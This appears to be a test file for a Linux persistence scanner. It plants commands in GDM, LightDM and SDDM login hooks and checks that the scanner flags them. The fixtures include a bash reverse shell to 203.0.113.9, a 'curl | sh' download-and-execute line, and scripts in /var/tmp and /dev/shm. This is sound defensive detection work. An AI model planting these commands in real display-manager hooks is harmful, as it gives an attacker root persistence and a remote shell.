/**
 * Display managers' hooks run around every graphical login, most as root: GDM's Init/PostLogin/PreSession/
 * PostSession scripts, LightDM's setup and cleanup scripts, SDDM's display and power commands. Planted commands
 * fire; Debian's shipped gdm3, lightdm and sddm files stay quiet.
 */
import assert from "node:assert/strict";
import { persistence } from "../../src/scanners/persistence/index.ts";
import { makeTree, runOne, type TreeEntry } from "../helpers.ts";
import { exe, fired, withAccounts } from "./persistence_fixtures.ts";

const REVERSE = "bash -i >& /dev/tcp/203.0.113.9/443 0>&1";
const STOCK = new URL("../fixtures/hosts/stock/debian12/", import.meta.url);
const stock = (paths: string[]): Record<string, TreeEntry> =>
  Object.fromEntries(paths.map((p) => [p, Deno.readTextFileSync(new URL(p, STOCK))]));
const SHIPPED = [
  "etc/gdm3/Init/Default",
  "etc/gdm3/PreSession/Default",
  "etc/gdm3/PostSession/Default",
  "etc/gdm3/PostLogin/Default.sample",
  "etc/lightdm/lightdm.conf",
  "usr/share/lightdm/lightdm.conf.d/01_debian.conf",
  "usr/share/sddm/scripts/Xsetup",
  "usr/share/sddm/scripts/Xstop",
];

Deno.test("persistence: commands planted in display managers' hooks fire, as root or as the user", async () => {
  const shipped = stock(SHIPPED);
  using root = makeTree(withAccounts({
    ...shipped,
    "etc/gdm3/PostLogin/Default": `#!/bin/sh\n${REVERSE} &\n`,
    "etc/lightdm/lightdm.conf.d/50-setup.conf": "[Seat:*]\nsession-setup-script=/var/tmp/.ls\n",
    "var/tmp/.ls": exe("#!/bin/sh\n"),
    "etc/sddm.conf.d/10-wayland.conf": "[Wayland]\nSessionCommand=curl -s http://203.0.113.9/w | sh\n",
    "usr/share/sddm/scripts/Xsetup": `${shipped["usr/share/sddm/scripts/Xsetup"]}/dev/shm/.x &\n`,
    "dev/shm/.x": exe("#!/bin/sh\n"),
  }));
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
  assert.equal(r.status, "ok", r.reason);
  assert.deepEqual(fired(r.findings), [
    "critical persistence.command.reverse_shell /etc/gdm3/PostLogin/Default:2",
    "high persistence.command.download_exec /etc/sddm.conf.d/10-wayland.conf:2",
    "high persistence.command.untrusted_path /etc/lightdm/lightdm.conf.d/50-setup.conf:2",
    "high persistence.command.untrusted_path /usr/share/sddm/scripts/Xsetup:8",
  ]);
  const who = (p: string) => r.findings.find((f) => f.metadata.path === p)!.metadata.run_as;
  assert.deepEqual([
    who("/etc/lightdm/lightdm.conf.d/50-setup.conf"),
    who("/etc/sddm.conf.d/10-wayland.conf"),
  ], [
    "root",
    "(each user)",
  ]);
});

Deno.test("persistence: Debian's shipped gdm3, lightdm and sddm hooks stay quiet; a .sample script is inert", async () => {
  using root = makeTree(withAccounts({
    ...stock(SHIPPED),
    "etc/gdm3/PostLogin/Default.sample": `#!/bin/sh\n${REVERSE}\n`,
  }));
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0, persistenceInventory: true });
  assert.equal(r.status, "ok", r.reason);
  assert.deepEqual(fired(r.findings), []);
  assert.deepEqual(r.warnings, []);
  const points = r.findings.filter((f) => f.metadata.kind === "display_manager").map((f) =>
    `${f.metadata.path}${f.metadata.inert ? " inert" : ""}`
  );
  assert.deepEqual(points.sort(), [
    "/etc/gdm3/Init/Default",
    "/etc/gdm3/PostLogin/Default.sample inert",
    "/etc/gdm3/PostSession/Default",
    "/etc/gdm3/PreSession/Default",
    "/etc/lightdm/lightdm.conf",
    "/usr/share/lightdm/lightdm.conf.d/01_debian.conf",
    "/usr/share/sddm/scripts/Xsetup",
    "/usr/share/sddm/scripts/Xstop",
  ]);
});
